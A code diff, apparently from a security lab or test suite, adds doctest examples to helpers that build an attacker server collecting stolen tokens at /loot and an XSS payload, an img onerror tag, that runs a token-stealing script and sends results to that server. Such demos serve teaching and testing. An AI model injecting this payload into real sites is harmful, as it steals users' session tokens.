@@ -27,6 +27,10 @@ def mallory_app() -> Mallory:
     """Return an app that keeps in `loot` what `GET /loot?token=...` brings.
 
     Its page /prize?beside=ADDRESS has a form for the bank at that address.
+
+    Example:
+        >>> mallory_app().loot
+        []
     """
     app = Mallory()
 
@@ -41,7 +45,12 @@ def mallory_app() -> Mallory:
 
 
 def infect(port: int) -> str:
-    """Return a note that runs `STEAL` in the page that shows it, for the server of Mallory on this port."""
+    """Return a note that runs `STEAL` in the page that shows it, for the server of Mallory on this port.
+
+    Example:
+        >>> infect(5000).startswith("<img src=x")
+        True
+    """
     script = STEAL.replace("EVIL", f"'http://' + location.hostname + ':{port}'")
     return f'<img src=x alt="" onerror="(async () => {{{script}}})()">'.replace(
         script, script.replace('"', "&quot;")
